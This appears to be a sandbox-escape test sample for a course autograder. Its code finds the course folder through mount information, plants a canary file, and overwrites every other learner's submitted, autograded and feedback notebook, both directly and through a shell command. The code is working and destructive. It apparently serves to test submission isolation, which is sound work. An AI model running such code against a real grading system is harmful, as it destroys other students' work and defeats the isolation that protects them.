# target: none
# why: finds the course folder from its mounts and its working folder, and overwrites every other learner's submitted and autograded notebook, directly and from a child process
# %% after: tensor_class
import os, subprocess
_roots = set()
try:
    for _line in open("/proc/self/mountinfo"):
        _parts = _line.split()
        for _p in _parts[3:5]:
            if ".tinytorch" in _p:
                _roots.add(_p.split("/.tinytorch")[0])
except OSError:
    pass
_roots.add(os.path.abspath(os.path.join(os.getcwd(), "..", "..", "..")))
for _root in _roots:
    try:  # a folder next to the course (the test puts a canary there)
        with open(os.path.join(os.path.dirname(_root), "canary", "planted.txt"), "w") as _f:
            _f.write("planted")
    except OSError:
        pass
    for _kind in ("submitted", "autograded", "feedback"):
        try:
            for _student in os.listdir(os.path.join(_root, _kind)):
                _target = os.path.join(_root, _kind, _student, "01_tensor", "tensor.ipynb")
                try:
                    with open(_target, "w") as _f:
                        _f.write("{}")
                except OSError:
                    pass
                try:
                    subprocess.run(["sh", "-c", f"echo '{{}}' > '{_target}'"], timeout=5)
                except Exception:
                    pass
        except OSError:
            pass
